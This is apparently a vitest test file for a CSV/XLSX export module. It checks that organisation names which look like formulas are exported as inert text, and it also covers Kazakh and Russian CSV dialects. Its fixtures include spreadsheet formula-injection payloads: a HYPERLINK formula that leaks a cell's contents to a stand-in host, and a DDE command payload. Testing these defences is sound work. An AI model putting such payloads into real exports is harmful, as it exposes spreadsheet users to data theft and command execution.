import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { csvCell, csvDialect, toCsv, toXlsx } from "./export";

// issue 14, finding 8: an organization renamed "=HYPERLINK(…)" or "@SUM(…)" was exported as a live formula
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1"];

describe("an export's cells", () => {
  it("never start a formula in CSV: text that would gets a leading apostrophe (OWASP)", () => {
    for (const text of FORMULAS) {
      const cell = csvCell(text);
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      expect(unquoted, JSON.stringify(text)).toBe(`'${text}`);
    }
    expect(csvCell("=1+1")).toBe("'=1+1");
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
  });

  it("keep ordinary text, negative numbers and empty cells as they were", () => {
    expect(csvCell("School-Gymnasium No. 7")).toBe("School-Gymnasium No. 7");
    expect(csvCell("№ 12 экономикалық лицей")).toBe("№ 12 экономикалық лицей");
    expect(csvCell("a, b")).toBe('"a, b"');
    expect(csvCell("a; b")).toBe('"a; b"');
    expect(csvCell(-3.5)).toBe("-3.5");
    expect(csvCell(42)).toBe("42");
    expect(csvCell(null)).toBe("");
  });

  it("write a whole CSV with every formula-like name as text", () => {
    const csv = toCsv({ headers: ["Name", "Received"], rows: FORMULAS.map((name, i) => [name, i]) });
    const lines = csv.replace(/^\uFEFF/, "").split("\r\n").filter(Boolean);
    expect(lines).toHaveLength(FORMULAS.length + 1);
    // no line starts a formula: each begins with the apostrophe, quoted or not
    for (const line of lines.slice(1)) expect(line).toMatch(/^"?'/);
  });

  it("are text in XLSX, never formulas, formula-like names included", async () => {
    const bytes = await toXlsx({ headers: ["Name", "Received"], rows: FORMULAS.map((name, i) => [name, i]) }, "League");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    FORMULAS.forEach((name, i) => {
      const cell = sheet.getCell(i + 2, 1);
      expect(cell.type, name).toBe(ExcelJS.ValueType.String);
      // (XML reads a carriage return back as a line feed)
      expect(cell.value).toBe(name.replace(/\r/g, "\n"));
      expect(cell.formula).toBeUndefined();
      expect(cell.numFmt).toBe("@");
      expect(sheet.getCell(i + 2, 2).value).toBe(i);
    });
    // and the sheet's XML holds no formula element at all
    const JSZip = (await import("jszip")).default;
    const zip = await JSZip.loadAsync(bytes);
    const sheetXml = await zip.file("xl/worksheets/sheet1.xml")!.async("string");
    expect(sheetXml).not.toContain("<f>");
    expect(sheetXml).not.toContain("<f ");
  });
});

describe("a CSV in the reader's language", () => {
  const table = { headers: ["Аты", "Үлесі, %", "Минут"], rows: [["«Күншуақ» балабақшасы; Бейнеу", 12.5, -3] as (string | number)[]] };

  it("is split by ';' with a decimal comma in Kazakh and Russian, as Excel there expects", () => {
    for (const locale of ["kk", "ru"] as const) {
      const lines = toCsv(table, csvDialect(locale)).replace(/^\uFEFF/, "").split("\r\n");
      expect(lines[0]).toBe('Аты;"Үлесі, %";Минут');
      expect(lines[1]).toBe('"«Күншуақ» балабақшасы; Бейнеу";12,5;-3');
    }
  });

  it("is split by ',' with a decimal point in English", () => {
    const lines = toCsv(table, csvDialect("en")).replace(/^\uFEFF/, "").split("\r\n");
    expect(lines[0]).toBe('Аты,"Үлесі, %",Минут');
    expect(lines[1]).toBe('"«Күншуақ» балабақшасы; Бейнеу",12.5,-3');
  });
});

describe("an XLSX with a heading", () => {
  it("opens with the title, the period and the filters, then the table's header row, frozen below them", async () => {
    const heading = { title: "Өңірлік бақылау панелі. Рейтинг", lines: ["Кезең: 2026 ж. 23 қар. — 2026 ж. 29 қар.", "Сүзгілер: =Арна: Кеңсе"] };
    const bytes = await toXlsx({ headers: ["Name", "Received"], rows: [["Школа", 3]] }, "League", heading);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getCell(1, 1).value).toBe(heading.title);
    expect(sheet.getCell(1, 1).font?.bold).toBe(true);
    expect(sheet.getCell(2, 1).value).toBe(heading.lines[0]);
    expect(sheet.getCell(3, 1).value).toBe(heading.lines[1]);
    expect(sheet.getCell(3, 1).type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getCell(4, 1).value).toBeNull();
    expect([sheet.getCell(5, 1).value, sheet.getCell(5, 2).value]).toEqual(["Name", "Received"]);
    expect([sheet.getCell(6, 1).value, sheet.getCell(6, 2).value]).toEqual(["Школа", 3]);
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 5 });
  });
});
